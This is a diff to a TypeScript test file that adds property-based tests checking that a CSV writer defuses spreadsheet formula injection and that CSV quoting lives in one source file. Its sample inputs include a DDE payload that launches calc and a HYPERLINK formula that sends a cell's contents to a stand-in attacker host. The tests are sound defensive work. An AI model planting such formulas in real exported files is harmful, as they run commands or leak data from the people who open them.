@@ -1,4 +1,5 @@
-import { readFileSync } from 'node:fs';
+import fc from 'fast-check';
+import { readdirSync, readFileSync } from 'node:fs';
 import { resolve } from 'node:path';
 import { expect, test } from 'vitest';
 import { writeCsv } from '../../src/exchange/tabular/write-csv.ts';
@@ -30,4 +31,28 @@ test('a text that a spreadsheet would run is defused; a number never is', () => 
     ),
   ).toBe(`h\n'=1+1\n'+7 701\n'-x\n'@SUM(A1)\n"'\tx"\n-5\n-5\n0.1\n""\n""\na-b\n`);
   expect(() => writeCsv(['h'], [[Number.NaN]])).toThrow(RangeError);
+});
+
+test('no text of anybody begins a cell as a formula, in CSV; a number stays one', () => {
+  const sign = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '');
+  const rest = fc.oneof(
+    fc.string(),
+    fc.constantFrom(`cmd|'/C calc'!A0`, 'HYPERLINK("https://evil.example?"&A1)', '1', '1.5', '"', ';', ','),
+  );
+  fc.assert(
+    fc.property(sign, rest, (first, second) => {
+      const written = writeCsv(['h'], [[`${first}${second}`]]).slice(2, -1);
+      const cell = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
+      const isNumber = /^-?\d+(\.\d+)?$/.test(cell);
+      expect([cell, /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !isNumber]).toEqual([cell, false]);
+    }),
+  );
+});
+
+test('cells of CSV are written in one place', () => {
+  const files = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((name) =>
+    /\.tsx?$/.test(name),
+  );
+  const quoting = files.filter((name) => readFileSync(`src/${name}`, 'utf8').includes(`'""')`));
+  expect(quoting).toEqual(['exchange/tabular/write-csv.ts']);
 });
